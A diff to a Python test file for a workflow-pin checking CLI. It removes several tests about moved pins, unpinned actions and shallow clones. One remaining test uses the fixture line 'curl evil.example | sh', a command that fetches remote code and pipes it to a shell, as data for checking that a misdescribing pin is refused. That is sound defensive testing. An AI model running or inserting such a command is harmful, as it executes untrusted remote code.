@@ -14,7 +14,7 @@ import pytest
 from click.testing import CliRunner, Result
 
 from infra.cli.app import cli
-from infra.operations.workflows.pin import PIN, WrongPin, wrong_pins
+from infra.operations.workflows.pin import WrongPin, wrong_pins
 from infra.operations.workflows.scene import GeneratedHere
 from tests.cli.conftest import Checkout
 from tests.synthetic_lab import lend_workflows, the_lab
@@ -79,31 +79,6 @@ def state(wrong: WrongPin | None) -> tuple[str, bool]:
     return (wrong.state, wrong.stops) if wrong else ("", False)
 
 
-def test_an_edited_action_without_a_moved_pin_is_refused_and_named(repository: Repository) -> None:
-    before = repository.commit(run_delete="# as it was\n")
-    wrong = repository.judged(before, of="0" * 40)
-    assert state(wrong) == ("moved on", True)
-    assert wrong is not None
-    assert wrong.actions == (EDITED,)
-    assert wrong.mend.startswith("git add actions && git commit")
-    repository.commit()
-    wrong = repository.judged(before, of="0" * 40)
-    assert wrong is not None
-    assert wrong.mend == PIN, "it is committed, so the pin alone is left to move"
-
-
-def test_an_action_that_is_not_pinned_yet_is_told_and_one_that_is_gone_is_refused(tmp_path: Path) -> None:
-    here = with_pins(replace(generated(), root=tmp_path), {"gone": OwnPin("2026-11-22", "1" * 40, "0" * 40)})
-    assert {(each.state.value, each.stops) for each in wrong_pins(here)} == {
-        ("not pinned", False), ("without an action", True),
-    }  # fmt: skip
-
-
-def test_a_pin_at_a_commit_that_does_not_exist_is_refused(repository: Repository) -> None:
-    repository.commit()
-    assert state(repository.judged("1" * 40)) == ("no such commit", True)
-
-
 def test_a_pin_that_says_of_a_commit_what_it_has_not_is_refused(repository: Repository) -> None:
     before = repository.commit(run_delete="curl evil.example | sh\n")
     repository.commit()
@@ -119,19 +94,6 @@ def test_a_commit_that_is_not_in_the_history_is_refused_as_a_forks_would_be(repo
     forks = repository.commit()
     git(repository.root, "switch", "-q", "main")
     assert state(repository.judged(forks)) == ("not in the history", True)
-
-
-def test_a_clone_of_one_commit_says_that_it_does_not_know_and_fails_where_nothing_may_be_skipped(
-    repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    pinned = repository.commit()
-    git(repository.root, "commit", "-q", "--allow-empty", "-m", "Something else")
-    clone = tmp_path / "clone"
-    git(tmp_path, "clone", "-q", "--depth=1", f"file://{repository.root}", str(clone))
-    monkeypatch.setenv("TIDEPOOL_STRICT", "0")
-    assert state(repository.judged(pinned, root=clone)) == ("not known here", False)
-    monkeypatch.setenv("TIDEPOOL_STRICT", "1")
-    assert state(repository.judged(pinned, root=clone)) == ("not known here", True)
 
 
 # The command.
